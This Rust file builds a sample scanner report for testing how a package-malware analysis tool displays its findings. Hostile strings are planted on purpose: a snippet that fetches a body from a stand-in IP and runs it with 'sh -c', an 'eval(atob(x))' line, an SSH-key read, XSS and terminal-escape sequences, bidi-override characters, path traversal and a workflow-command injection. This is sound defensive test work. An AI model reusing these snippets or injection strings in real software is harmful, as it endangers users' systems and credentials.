//! The standard report: one target of each sort, with hostile words wherever a package can put them.

use model::{
    Action, Analysis, ArtifactId, Author, Balance, Capability, Confidence, Coverage, Decision, Digest, Ecosystem,
    Excerpt, Facts, Finding, Gap, GapKind, Group, Indicator, IndicatorKind, IndicatorRole, Kind, PackageName, Phase,
    Place, Problem, ReleaseId, RuleMeta, Score, Share, Step, Verdict, Version,
};
use std::sync::LazyLock;
use wire::{Exit, Failure, Outcome, Report, TargetReport};

static RULES: LazyLock<Vec<RuleMeta>> = LazyLock::new(|| {
    let rule = |id: &str, title: &str, group, kind, attack: &[&str]| RuleMeta {
        id: id.into(),
        title: title.into(),
        group,
        kind,
        attack: attack.iter().map(|one| (*one).into()).collect(),
        phases: vec![Phase::Install],
        false_alarms: "Honest installers.".into(),
        guard: "Their hosts are known.".into(),
        page: format!("# {id}\n\n{title}.\n"),
    };
    vec![
        rule(
            "downloads-in-install-hook",
            "Fetches and runs a program while it is installed",
            Group::Dropper,
            Kind::Proof,
            &["T1105", "T1059"],
        ),
        rule("hides-code-in-layers", "Decodes code and runs it", Group::Obfuscation, Kind::Indicator, &["T1027"]),
        rule("reads-ssh-keys", "Reads private keys", Group::Credentials, Kind::Capability, &["T1552.004"]),
        rule("never-seen", "Does not speak here", Group::Impact, Kind::Indicator, &[]),
    ]
});

pub fn report() -> Report<'static> {
    let label = |text: &str| text.to_string();
    let target = |label: String, outcome| TargetReport { label, outcome, warnings: Vec::new() };
    let analysed = |analysis| Outcome::Analysed(Box::new(analysis));
    Report {
        version: "0.0.0",
        ruleset: "5f1d",
        made: "2026-01-31T23:59:59.000Z",
        targets: vec![
            target(label("pkg:npm/plain@1.0.0"), analysed(clean())),
            target(label("pkg:npm/evil-helper@6.6.6"), analysed(malicious())),
            target(label("./odd-tool\u{1b}[2J.whl"), analysed(suspicious())),
            TargetReport {
                warnings: vec!["This version is yanked.".into()],
                ..target(label("pkg:pypi/half-read@2"), analysed(incomplete()))
            },
            target(
                label("pkg:npm/no-such-thing"),
                Outcome::Failed(Failure {
                    code: "unknown-package".into(),
                    message: "The registry does not know the package \"no-such-thing\".".into(),
                    hint: Some("Check the spelling; for a private package, set its registry.".into()),
                    exit: Exit::Unavailable,
                }),
            ),
        ],
        rules: &RULES,
        notes: vec!["A wall around the analysis is missing: landlock (this kernel has none).".into()],
    }
}

fn analysis(name: &str, decision: Decision, score: u8, reason: &str) -> Analysis {
    let release = ReleaseId {
        ecosystem: Ecosystem::Npm,
        name: PackageName::from_normalised(name.into()),
        version: Version("1.0.0".into()),
    };
    let artifact = ArtifactId {
        release: Some(release),
        file_name: format!("{name}-1.0.0.tgz"),
        sha256: Digest([name.len() as u8; 32]),
    };
    Analysis {
        verdict: Verdict {
            artifact,
            decision,
            score: Score(score),
            balance: Balance::default(),
            reason: reason.into(),
            findings: Vec::new(),
            coverage: Coverage { files: 12, parsed: 9, bytes: 34_560, gaps: Vec::new() },
            author: Author::Engine { version: "0.0.0".into(), ruleset: "5f1d".into() },
        },
        capabilities: Vec::new(),
        facts: Facts {
            ecosystem: Some(Ecosystem::Npm),
            name: Some(name.into()),
            version: Some("1.0.0".into()),
            format: "tar.gz".into(),
        },
        problems: Vec::new(),
        shapes: Vec::new(),
        indicators: Vec::new(),
        summary: None,
    }
}

fn balance(shares: &[(&str, i32)]) -> Balance {
    let points = -20 + shares.iter().map(|(_, points)| points).sum::<i32>();
    let share = |(rule, points): &(&str, i32)| Share { rule: (*rule).into(), points: *points };
    Balance { base: -20, shares: shares.iter().map(share).collect(), points }
}

fn place(path: &str, line: u32, column: u32) -> Place {
    Place { path: path.into(), line, column, layer: None }
}

fn capability(action: Action, phase: Phase, count: u32, objects: &[&str], place: Place) -> Capability {
    Capability { action, phase, count, objects: objects.iter().map(|one| (*one).into()).collect(), place }
}

pub fn clean() -> Analysis {
    let mut analysis = analysis("plain", Decision::Benign, 0, "Nothing suspicious was found.");
    analysis.capabilities = vec![
        capability(Action::FileRead, Phase::Runtime, 3, &[], place("package/index.js", 4, 1)),
        capability(Action::NetListen, Phase::Runtime, 1, &["8080"], place("package/index.js", 9, 3)),
    ];
    analysis
}

fn malicious() -> Analysis {
    let reason =
        "It fetches a program from 198.51.100.7 while it is installed and runs it (downloads-in-install-hook).";
    let mut analysis = analysis("evil-helper", Decision::Malicious, 97, reason);
    analysis.facts.name = Some("evil-helper\u{202e}".into());
    analysis.verdict.findings = vec![dropper(), layered(), layered_again()];
    analysis.verdict.balance = balance(&[("downloads-in-install-hook", 28), ("hides-code-in-layers", 7)]);
    analysis.capabilities = vec![
        capability(Action::NetFetch, Phase::Install, 1, &["http://198.51.100.7/a|b"], place("package/setup.js", 3, 7)),
        capability(Action::ProcExec, Phase::Install, 2, &["sh -c {}"], place("package/setup.js", 12, 5)),
    ];
    let indicator =
        |kind, role, value: &str| Indicator { kind, role, value: value.into(), place: place("package/setup.js", 3, 7) };
    analysis.indicators = vec![
        indicator(IndicatorKind::Url, IndicatorRole::FetchedFrom, "http://198.51.100.7/a?b='c'"),
        indicator(IndicatorKind::Host, IndicatorRole::SentTo, "c2.example"),
        indicator(IndicatorKind::Ip, IndicatorRole::FetchedFrom, "198.51.100.7"),
        indicator(IndicatorKind::Webhook, IndicatorRole::SentTo, "discord:123456789"),
        indicator(IndicatorKind::Email, IndicatorRole::Named, "thief@mail.example"),
        indicator(IndicatorKind::Wallet, IndicatorRole::Named, "bitcoin:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"),
        indicator(IndicatorKind::Path, IndicatorRole::Written, "C:\\Users\\Public\\\u{1b}x.bat"),
        indicator(IndicatorKind::Sha256, IndicatorRole::Holds, &"ab".repeat(32)),
    ];
    analysis.problems = vec![
        Problem::new("path-traversal", "../escape.js", "The entry's path leads out of the archive."),
        Problem::new("duplicate-entry", "package/<script>alert(1)</script>", "The archive holds this entry twice."),
    ];
    analysis
}

fn dropper() -> Finding {
    Finding {
        rule: "downloads-in-install-hook".into(),
        kind: Kind::Proof,
        confidence: Confidence::High,
        group: Group::Dropper,
        phase: Phase::Install,
        note: "The postinstall script fetches http://198.51.100.7/a and hands it to the shell.".into(),
        places: vec![place("package/setup.js", 12, 5), place("../escape.js", 1, 1)],
        steps: vec![
            Step { place: place("package/setup.js", 3, 7), note: "fetches http://198.51.100.7/a".into() },
            Step { place: place("package/setup.js", 12, 5), note: "runs it with `sh`".into() },
        ],
        excerpt: Some(Excerpt {
            first_line: 10,
            lines: vec![
                "// \u{1b}]0;owned\u{7} @security-team <script>alert(1)</script>".into(),
                "fetch(url).then(body => {".into(),
                "\trun('sh', ['-c', body]) // \u{202e}gnihton\u{2066}".into(),
                "})".into(),
                "::error file=x::not a workflow command".into(),
            ],
        }),
        decoded: None,
        excepted: None,
    }
}

fn layered() -> Finding {
    let mut decoded: Vec<String> = (1..=50).map(|line| format!("line_{line} = 'hidden' ```")).collect();
    decoded[2] = "::error file=x::not a workflow command".into();
    Finding {
        rule: "hides-code-in-layers".into(),
        kind: Kind::Indicator,
        confidence: Confidence::Medium,
        group: Group::Obfuscation,
        phase: Phase::Import,
        note: "Text is decoded by base64 and zlib and run as code.".into(),
        places: vec![place("package/lib.js", 1, 1)],
        steps: Vec::new(),
        excerpt: Some(Excerpt { first_line: 1, lines: vec!["x".repeat(400)] }),
        decoded: Some(decoded.join("\n")),
        excepted: None,
    }
}

fn layered_again() -> Finding {
    let inner = Place { layer: Some(0), ..place("package/lib.js", 7, 3) };
    Finding {
        phase: Phase::Runtime,
        note: "In the decoded text, text is decoded again and run as code.".into(),
        places: vec![inner],
        excerpt: Some(Excerpt { first_line: 7, lines: vec!["eval(atob(x))".into()] }),
        decoded: None,
        ..layered()
    }
}

fn suspicious() -> Analysis {
    let mut analysis = analysis("odd-tool", Decision::Suspicious, 55, "It reads private keys while it is imported.");
    let own = Finding {
        rule: "my-team/odd-string".into(),
        kind: Kind::Indicator,
        group: Group::Custom,
        places: vec![place("", 0, 0)],
        note: "A rule of the user matched [here](http://evil.example).".into(),
        excerpt: None,
        decoded: None,
        ..layered()
    };
    let text: Vec<String> = (1..=90).map(|line| format!("line {line}")).collect();
    let deep = Finding {
        rule: "decodes-and-runs".into(),
        note: "In the decoded text, far down, something is run.".into(),
        places: vec![Place { layer: Some(0), ..place("odd_tool/data.py", 60, 1) }],
        excerpt: Some(Excerpt { first_line: 59, lines: vec!["line 59".into(), "line 60".into()] }),
        decoded: Some(text.join("\n")),
        ..layered()
    };
    let keys = Finding {
        rule: "reads-ssh-keys".into(),
        kind: Kind::Capability,
        group: Group::Credentials,
        note: "It reads ~/.ssh/id_rsa.".into(),
        places: vec![place("odd_tool/__init__.py", 2, 1)],
        excerpt: None,
        decoded: None,
        ..layered()
    };
    analysis.verdict.findings = vec![own, deep, keys];
    analysis
}

fn incomplete() -> Analysis {
    let reason = "Nothing suspicious was seen, but not everything could be looked at.";
    let mut analysis = analysis("half-read", Decision::Inconclusive, 0, reason);
    analysis.verdict.coverage.gaps = vec![
        Gap::new(GapKind::Limit, "half_read/big.py", "The file is larger than the limit of 8 MB."),
        Gap::new(GapKind::WorkerDied, "", "The worker that looked at the package died."),
    ];
    analysis
}
